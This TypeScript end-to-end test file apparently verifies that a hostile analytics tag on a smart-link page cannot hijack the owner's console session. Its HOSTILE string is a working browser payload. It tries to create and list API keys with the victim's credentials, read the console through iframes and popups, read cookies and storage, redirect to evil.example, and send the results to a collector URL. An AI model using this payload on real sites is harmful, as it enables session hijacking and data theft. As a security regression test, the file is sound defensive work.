import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserOfFile } from '../../support/browser/browser.ts';
import { aMember } from '../../support/browser/person-browser.ts';
import { SMART_LINK_NEEDS } from '../../support/builders/smart-link-needs.ts';
import { apiKey, BROWSER, isLocal, newTitle, origin } from '../../support/deployment/client.ts';
import { type StartedRun, startLocalRun } from '../../support/deployment/local-run.ts';
import type { Json } from '../../support/json.ts';

const browser = await browserOfFile();

/** A deployment, and how a person signs in to its console. */
interface Setup {
  origin: string;
  consoleOrigin: string;
  apiKey: string;
  signIn(context: BrowserContext): Promise<void>;
}

/** Where the tag sends what it got hold of. */
const COLLECTOR = 'https://region1.google-analytics.com/g/collect';

/** A script that the host of the owner's analytics service sends in place of its own. */
const HOSTILE = (console: string) => `(async () => {
const got = {};
const attempt = async (name, run) => { try { got[name] = await run() } catch { got[name] = 'refused' } };
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const key = JSON.stringify({ name: 'stolen', permissions: ['*'] });
for (const at of ['', '${console}']) {
const of = at || 'own';
await attempt(of + ' key', async () => (await fetch(at + '/v1/api/keys', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: key })).status);
await attempt(of + ' plain key', async () => (await fetch(at + '/v1/api/keys', { method: 'POST', mode: 'no-cors', credentials: 'include', body: key })).status);
await attempt(of + ' keys', async () => (await fetch(at + '/v1/api/keys', { credentials: 'include' })).status);
await attempt(of + ' frame', async () => {
const frame = document.createElement('iframe');
frame.src = at + '/console';
document.documentElement.append(frame);
await wait(500);
return frame.contentWindow.document.body.innerHTML.length > 0;
});
await attempt(of + ' popup', async () => {
const popup = open(at + '/console');
if (popup === null) return 'refused';
await wait(1500);
return popup.document.querySelector('#app') !== null;
});
}
await attempt('cookies', () => document.cookie.includes('planted'));
await attempt('storage', () => localStorage.getItem('planted') !== null);
await attempt('database', async () => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = () => resolve(true); asked.onerror = reject }));
await attempt('page', () => top.document.querySelector('main') !== null);
await attempt('navigation', () => { top.location = 'https://evil.example/'; return true });
await fetch('${COLLECTOR}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
})()`;

/** What the script above gets if nothing works. */
const NOTHING = {
  key: 'refused',
  'plain key': 'refused',
  keys: 'refused',
  frame: 'refused',
  popup: 'refused',
};
const PAGE_ALONE = {
  cookies: false,
  storage: false,
  database: 'refused',
  page: 'refused',
  navigation: 'refused',
};

const prefixed = (prefix: string) =>
  Object.fromEntries(Object.entries(NOTHING).map(([name, value]) => [`${prefix} ${name}`, value]));

const api = async (
  { origin, apiKey }: Setup,
  method: string,
  path: string,
  body?: unknown,
): Promise<Json> => {
  const response = await fetch(`${origin}/v1/api${path}`, {
    method,
    headers: { 'x-service-api-key': apiKey, 'content-type': 'application/json' },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
  const { data, error } = (await response.json()) as Json;
  if (!response.ok) throw new Error(JSON.stringify(error));
  return data;
};

const namesOfKeys = async (setup: Setup): Promise<string[]> =>
  (await api(setup, 'GET', '/keys')).keys.map(({ name }: Json) => name);

/** A page with a tag, and a browser in which a person is signed in to the console and the tag's host is hostile. */
async function prepare(
  setup: Setup,
): Promise<{ context: BrowserContext; page: Page; path: string; loot: Json[] }> {
  const { link } = await api(setup, 'POST', '/smart-links', {
    title: newTitle(),
    type: 'myBio',
    ...SMART_LINK_NEEDS.myBio,
    pixels: { ga4: 'G-AB12CD34EF' },
  });
  const context = await browser.newContext({ userAgent: BROWSER });
  const loot: Json[] = [];
  const own = [setup.origin, setup.consoleOrigin];
  await context.route(
    (url) => !own.includes(url.origin),
    (route) => {
      const request = route.request();
      if (request.url() === COLLECTOR) loot.push(JSON.parse(request.postData() ?? '{}'));
      const isScript = request.url().includes('/gtag/js');
      return route.fulfill({
        contentType: 'text/javascript',
        body: isScript ? HOSTILE(setup.consoleOrigin) : '',
      });
    },
  );
  await setup.signIn(context);
  const page = await context.newPage();
  for (const at of own) {
    await page.goto(`${at}/docs`);
    await page.evaluate("document.cookie='planted=1;path=/';localStorage.setItem('planted','1')");
  }
  return { context, page, path: new URL(link.url).pathname, loot };
}

async function accept(page: Page, url: string): Promise<void> {
  await page.goto(url);
  await page.getByRole('button', { name: 'Accept' }).click();
}

let run: StartedRun | undefined;
const dataDir = mkdtempSync(join(tmpdir(), 'signpost-e2e-'));
afterAll(async () => {
  await run?.stop();
  rmSync(dataDir, { recursive: true, force: true });
});

describe.runIf(isLocal)('a hostile tag on a page, where the console has the host of the pages', () => {
  const setup: Setup = {
    origin,
    consoleOrigin: origin,
    apiKey,
    async signIn(context) {
      const { browser: person } = await aMember('owner');
      await context.addCookies(person.cookies);
    },
  };

  it('gets nothing of the session, the console, the host or the page', async () => {
    const { context, page, path, loot } = await prepare(setup);
    // The session works: what follows is not refused for want of one.
    await page.goto(`${origin}/console`);
    const isSignedIn = "fetch('/v1/auth/session').then(({status})=>status)";
    expect(await page.evaluate(isSignedIn)).toBe(200);
    await accept(page, origin + path);
    await expect.poll(() => loot.length, { timeout: 15_000 }).toBe(1);
    expect(loot[0]).toEqual({ ...prefixed('own'), ...prefixed(origin), ...PAGE_ALONE });
    expect(await namesOfKeys(setup)).not.toContain('stolen');
    expect(page.url()).toBe(origin + path);
    expect(context.pages()).toHaveLength(1);
    await context.close();
  });
});

describe.runIf(isLocal)('a hostile tag on a page, where the console has a host of its own', () => {
  let setup: Setup;
  beforeAll(async () => {
    run = await startLocalRun(dataDir, 0, { CONSOLE_HOST: 'console.localhost', BUNDLES: 'deployed' });
    const { consoleUrl } = run;
    setup = {
      origin: run.origin,
      consoleOrigin: new URL(consoleUrl).origin,
      apiKey: run.apiKey,
      async signIn(context) {
        const page = await context.newPage();
        await page.goto(consoleUrl);
        await page.getByRole('button', { name: 'Sign in' }).click();
        await page.locator('.shell h1').waitFor();
        await page.close();
      },
    };
  }, 60_000);

  it('gets nothing, and is not even loaded on the host of the console', async () => {
    const { context, page, path, loot } = await prepare(setup);
    expect(setup.consoleOrigin).toBe(setup.origin.replace('localhost', 'console.localhost'));
    await page.goto(`${setup.consoleOrigin}/console`);
    expect(await page.evaluate("fetch('/v1/auth/session').then(({status})=>status)")).toBe(200);

    const there = await page.goto(setup.consoleOrigin + path);
    expect(there?.status()).toBe(404);
    expect(there?.headers()['content-type']).toContain('application/json');
    expect(loot).toEqual([]);

    await accept(page, setup.origin + path);
    await expect.poll(() => loot.length, { timeout: 15_000 }).toBe(1);
    expect(loot[0]).toEqual({ ...prefixed('own'), ...prefixed(setup.consoleOrigin), ...PAGE_ALONE });
    expect(await namesOfKeys(setup)).not.toContain('stolen');
    expect(page.url()).toBe(setup.origin + path);
    await context.close();
  });

  it('leaves the console to its host: the other one redirects there, and takes no session', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${setup.origin}/console/links?search=a%20b#top`);
    expect(page.url()).toMatch(new RegExp(`^${setup.consoleOrigin}/console`));
    await page.goto(`${setup.consoleOrigin}/`);
    expect(new URL(page.url()).pathname).toMatch(/^\/console/);
    await context.close();
  });
});
